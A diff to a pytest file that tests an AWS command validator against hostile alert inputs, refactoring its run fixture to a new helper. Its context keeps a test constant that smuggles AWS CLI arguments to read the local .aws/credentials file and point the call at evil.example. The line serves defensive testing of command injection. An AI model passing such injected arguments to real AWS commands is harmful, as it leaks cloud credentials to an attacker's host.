@@ -19,10 +19,10 @@ import pytest
 
 from functions.format.logic import MAX_DIAGNOSTICS
 from functions.ingest.logic import pipeline_inputs_from_raw
-from functions.local_runner.runner import RunResult, run_pipeline_input, run_scenario
-from functions.local_runner.scenario import builtin_scenarios
+from functions.local_runner.runner import RunResult, run_pipeline_input
 from functions.shared.aws_commands import check_command
 from tests.support.awscli_parse import assert_cli_parses_as_intended, parse_with_awscli
+from tests.support.builtin_runs import builtin_runs
 
 EVENTS = Path(__file__).resolve().parents[1] / "events"
 ATTACK = "--function-name=file://.aws/credentials --endpoint https://evil.example"
@@ -55,7 +55,7 @@ def hostile_alerts() -> dict[str, dict[str, Any]]:
 
 @pytest.fixture(scope="module")
 def runs() -> dict[str, RunResult]:
-    results = {scenario.name: run_scenario(scenario, quick_retries=True) for scenario in builtin_scenarios()}
+    results = dict(builtin_runs())
     for name, payload in hostile_alerts().items():
         (pipeline_input,) = pipeline_inputs_from_raw(json.dumps(payload))
         results[name] = run_pipeline_input(pipeline_input, quick_retries=True)
